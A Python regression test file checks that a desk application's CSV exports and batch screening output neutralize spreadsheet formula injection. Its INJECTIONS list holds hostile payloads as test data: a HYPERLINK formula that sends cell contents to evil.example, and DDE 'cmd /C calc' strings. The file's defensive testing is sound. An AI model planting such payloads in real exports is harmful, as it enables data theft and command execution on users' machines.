"""Regression tests for issue 12's hardening findings, each named for its finding: formula
cells in CSV exports and batch screening output, security headers, Secure cookies behind a
TLS proxy, ISO 3166 `rel_to` codes, and a lockout that never shuts out a whole address."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

from npdesk.cli.screening import write_batch
from npdesk.screening.batch import BatchHit
from npdesk.screening.matcher import Query
from npdesk.security.csvsafe import neutralize
from npdesk.services.handovers import ExportFormat, export_handover_list
from tests.domain._desk_fixtures import LIAISON, desk
from tests.domain.test_handover_exports import hand, opened

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_finding_csv_formula_cells_each_leading_character_is_neutralized() -> None:
    for text in INJECTIONS:
        assert neutralize(text) == "'" + text
    for harmless in ("Fictional Gyro Co.", "NPC-2026-001", "a = b", "", "0.9731"):
        assert neutralize(harmless) == harmless
    assert neutralize(7) == 7  # numbers stay numbers


def test_finding_handover_csv_export_wrote_formula_cells_raw(tmp_path: Path) -> None:
    engine = desk(tmp_path)
    opened(engine, INJECTIONS[0])
    opened(engine, INJECTIONS[1])
    hand(engine, date(2007, 11, 20))
    text = export_handover_list(engine, LIAISON, 1, ExportFormat.CSV).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    titles = {row[1] for row in rows[3:-1]}
    assert titles == {"'" + INJECTIONS[0], "'" + INJECTIONS[1]}
    assert not any(cell.startswith(("=", "@", "+", "-")) for row in rows for cell in row)


def test_finding_batch_screening_output_wrote_formula_cells_raw(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    rows = [("=1+1", Query(INJECTIONS[0])), ("2", Query("Clean Name Ltd"))]
    hits = [
        [BatchHit("OFAC SDN", "@123", "x", INJECTIONS[1], 0.91, "match", "")],
        [],
    ]
    assert write_batch(target, rows, hits) == 1
    written = list(csv.reader(target.open(encoding="utf-8", newline="")))
    assert written[1][:6] == [
        "'=1+1",
        "'" + INJECTIONS[0],
        "1",
        "OFAC SDN",
        "'@123",
        "'" + INJECTIONS[1],
    ]
    assert written[2][:2] == ["2", "Clean Name Ltd"]
